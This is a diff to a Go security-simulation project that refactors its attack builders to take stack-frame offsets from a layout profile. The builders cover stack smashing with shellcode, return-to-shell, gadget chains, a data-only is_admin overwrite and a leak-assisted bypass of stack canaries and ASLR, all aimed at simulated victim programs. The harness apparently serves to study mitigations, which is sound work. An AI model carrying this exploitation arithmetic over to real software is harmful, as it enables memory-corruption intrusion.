@@ -10,6 +10,7 @@ import (
 	"softsec/internal/cpu"
 	"softsec/internal/isa"
 	"softsec/internal/kernel"
+	"softsec/internal/layout"
 )
 
 var le = binary.LittleEndian
@@ -19,8 +20,19 @@ var le = binary.LittleEndian
 // platform's *nominal* layout. ASLR's whole value is that the actual
 // layout differs from this reconnaissance.
 type Recon struct {
+	// Profile is the machine layout profile the victim platform runs —
+	// public knowledge, like the target's CPU architecture. Attack
+	// builders derive their frame offsets from it instead of hardcoding
+	// Figure-1 distances.
+	Profile *layout.Profile
+	// MainEBP is main's frame pointer in the nominal layout: _start
+	// pushes a return address (StackTop-4), main's prologue pushes EBP
+	// (StackTop-8 = EBP). Local offsets from Profile.Frame are relative
+	// to it.
+	MainEBP uint32
+
 	// Addresses in the nominal (non-ASLR) layout.
-	BufAddr     uint32 // main's first local buffer
+	BufAddr     uint32 // main's first local buffer (canonical 16-byte frame)
 	SpawnShell  uint32
 	Syscall3    uint32
 	Exit        uint32
@@ -31,6 +43,14 @@ type Recon struct {
 	StartRet    uint32 // return address main's frame holds (into _start)
 	Canary      uint32 // the predictable default canary
 	TextBase    uint32
+}
+
+// LocalAddr returns the nominal address of local i in a main() whose
+// locals have the given sizes, using the profile's frame arithmetic —
+// how an attacker computes buffer addresses once frame geometry is a
+// platform parameter rather than a constant.
+func (r Recon) LocalAddr(f layout.Frame, i int) uint32 {
+	return r.MainEBP + uint32(f.Offs[i])
 }
 
 // ReconNominal builds attacker knowledge by loading the attacker's own
@@ -63,14 +83,16 @@ func ReconNominal(s Scenario, m Mitigations) (Recon, error) {
 	r.DataScratch = p.Layout.Data + 0x800
 	r.Canary = p.Canary
 	// main's frame: _start pushes a return address (ESP-4), main's
-	// prologue pushes EBP (ESP-8 = EBP); the first 16-byte buffer local
-	// sits at EBP-16 (EBP-20 with a canary).
-	ebp := p.Layout.StackTop - 8
-	if m.Canary {
-		r.BufAddr = ebp - 20
-	} else {
-		r.BufAddr = ebp - 16
+	// prologue pushes EBP (ESP-8 = EBP); where the locals sit below that
+	// is profile geometry, so derive it instead of hardcoding Figure 1's
+	// EBP-16 / EBP-20.
+	prof, err := m.LayoutProfile()
+	if err != nil {
+		return Recon{}, fmt.Errorf("core: recon: %w", err)
 	}
+	r.Profile = prof
+	r.MainEBP = p.Layout.StackTop - 8
+	r.BufAddr = r.LocalAddr(prof.Frame(m.Canary, 16), 0)
 	// The return address main's frame holds is the instruction after
 	// _start's `call main`. Derive it by disassembling at _start rather
 	// than hardcoding the CALL encoding's size, so recon survives any
@@ -346,13 +368,12 @@ func Attacks() []AttackSpec {
 			Goal:      pwned,
 			Build: func(r Recon, m Mitigations) kernel.InputSource {
 				// Plant shellcode just above the smashed return
-				// address and point the return address at it.
-				scAddr := r.BufAddr + 24
-				retOff := 20
-				if m.Canary {
-					scAddr = r.BufAddr + 28
-					retOff = 24
-				}
+				// address and point the return address at it. The
+				// distance from buf to the return slot is profile
+				// geometry, not a constant.
+				f := r.Profile.Frame(m.Canary, 16)
+				retOff := f.RetOffFrom(0)
+				scAddr := r.BufAddr + uint32(retOff) + 4
 				s := &attack.SmashSpec{
 					RetOff:    retOff,
 					Ret:       scAddr,
@@ -383,8 +404,10 @@ func Attacks() []AttackSpec {
 				for len(blob)%4 != 0 {
 					blob = append(blob, 0x90)
 				}
-				// v[] sits at r.BufAddr; idx counts in 4-byte elements.
-				vAddr := r.BufAddr
+				// v[] is the first declared local of a {v[16], idx,
+				// val} frame; where the profile places it decides the
+				// index base. idx counts in 4-byte elements.
+				vAddr := r.LocalAddr(r.Profile.Frame(m.Canary, 16, 4, 4), 0)
 				var chunks [][]byte
 				for i := 0; i+4 <= len(blob); i += 4 {
 					idx := (base + uint32(i) - vAddr) / 4
@@ -400,12 +423,8 @@ func Attacks() []AttackSpec {
 			Victim:    victimEcho,
 			Goal:      shelled,
 			Build: func(r Recon, m Mitigations) kernel.InputSource {
-				retOff := 20
-				if m.Canary {
-					retOff = 24
-				}
 				s := &attack.SmashSpec{
-					RetOff:    retOff,
+					RetOff:    r.Profile.Frame(m.Canary, 16).RetOffFrom(0),
 					Ret:       r.SpawnShell,
 					EBP:       r.BufAddr,
 					CanaryOff: -1,
@@ -425,10 +444,7 @@ func Attacks() []AttackSpec {
 				c.CallCdecl(r.Syscall3, r.Pop4Gadget, kernel.SysRead, 0, r.DataScratch, 6)
 				c.CallCdecl(r.Syscall3, r.Pop4Gadget, kernel.SysWrite, 1, r.DataScratch, 6)
 				c.FinalCall(r.Exit, attack.PwnExitCode)
-				retOff := 20
-				if m.Canary {
-					retOff = 24
-				}
+				retOff := r.Profile.Frame(m.Canary, 16).RetOffFrom(0)
 				s := &attack.SmashSpec{
 					RetOff:    retOff,
 					Ret:       c.First(),
@@ -446,9 +462,19 @@ func Attacks() []AttackSpec {
 			Victim:    victimDataOnly,
 			Goal:      outputHas("ADMIN"),
 			Build: func(r Recon, m Mitigations) kernel.InputSource {
-				// 16 filler bytes then a non-zero word lands exactly
-				// on is_admin; no code pointer is touched.
-				payload := append(bytes.Repeat([]byte{'x'}, 16), words(1)...)
+				// Filler up to is_admin, then a non-zero word; no code
+				// pointer is touched. The filler length is the
+				// profile-dependent distance from name[] up to
+				// is_admin. Profiles that place is_admin *below* the
+				// buffer (or out of the 20-byte write's reach) make
+				// this attack geometrically impossible; send the
+				// classic payload and let the oracle record the miss.
+				f := r.Profile.Frame(m.Canary, 4, 16)
+				delta := int(f.Offs[0] - f.Offs[1]) // name → is_admin
+				if delta <= 0 || delta > 16 {
+					delta = 16
+				}
+				payload := append(bytes.Repeat([]byte{'x'}, delta), words(1)...)
 				return &kernel.ScriptInput{payload}
 			},
 		},
@@ -520,12 +546,12 @@ func Attacks() []AttackSpec {
 				// The dangling buffer coincides with read()'s own
 				// frame: filler, saved EBP, then read's return address
 				// — redirected to spawn_shell. No canary protects
-				// libc's hand-written frames, but a canary-compiled
-				// make() shifts the dead buffer 4 bytes down.
-				retOff := 20
-				if m.Canary {
-					retOff = 24
-				}
+				// libc's hand-written frames, but the profile decides
+				// where make() put the dead buffer relative to its
+				// EBP, and read()'s frame reoccupies the same slots:
+				// the distance from the buffer to the live return
+				// address is 4 - Offs[buf], i.e. RetOffFrom.
+				retOff := r.Profile.Frame(m.Canary, 16).RetOffFrom(0)
 				s := &attack.SmashSpec{
 					RetOff:    retOff,
 					Ret:       r.SpawnShell,
@@ -543,6 +569,13 @@ func Attacks() []AttackSpec {
 // canary and the return address into _start, rebase libc from the leak,
 // then smash with the correct canary and the *actual* spawn_shell address.
 func buildLeakAssisted(r Recon, m Mitigations) kernel.InputSource {
+	// The victim's frame is {buf[16], n}; the over-read streams bytes
+	// starting at buf, so every leak offset is "slot offset − buf offset"
+	// in the profile's frame. The same arithmetic gives the smash offsets.
+	f := r.Profile.Frame(m.Canary, 16, 4)
+	retOff := f.RetOffFrom(0)                   // buf → return address
+	canaryOff, crossed := f.CanaryOffFrom(0)    // buf → canary, if above buf
+	bufAddr := r.LocalAddr(f, 0)
 	step := 0
 	return kernel.InputFunc(func(max int, out []byte) []byte {
 		step++
@@ -552,32 +585,23 @@ func buildLeakAssisted(r Recon, m Mitigations) kernel.InputSource {
 		case 2:
 			return []byte("AAAAAAAAAAAAAAAA") // fill the buffer
 		case 3:
-			if len(out) < 28 {
+			if len(out) < retOff+4 {
 				return nil
 			}
-			// Frame under Canary: buf at EBP-20 → leak offsets:
-			// canary at +16, saved EBP at +20, return addr at +24.
-			// Without canary: buf at EBP-16 → EBP at +16, ret at +20.
-			var canary, leakedRet uint32
-			retOff := 20
-			if m.Canary {
-				canary = le.Uint32(out[16:])
-				leakedRet = le.Uint32(out[24:])
-				retOff = 24
-			} else {
-				leakedRet = le.Uint32(out[20:])
-			}
+			leakedRet := le.Uint32(out[retOff:])
 			// Rebase: the leaked return address is _start+5 in the
 			// *actual* layout; spawn_shell follows at a fixed delta.
 			spawn := leakedRet + (r.SpawnShell - r.StartRet)
 			s := &attack.SmashSpec{
 				RetOff:    retOff,
 				Ret:       spawn,
-				EBP:       r.BufAddr,
+				EBP:       bufAddr,
 				CanaryOff: -1,
 			}
-			if m.Canary {
-				s.WithCanary(16, canary)
+			// A canary only matters (and is only leakable) when it
+			// sits between the buffer and the return address.
+			if m.Canary && crossed && len(out) >= canaryOff+4 {
+				s.WithCanary(canaryOff, le.Uint32(out[canaryOff:]))
 			}
 			return s.Build()
 		}
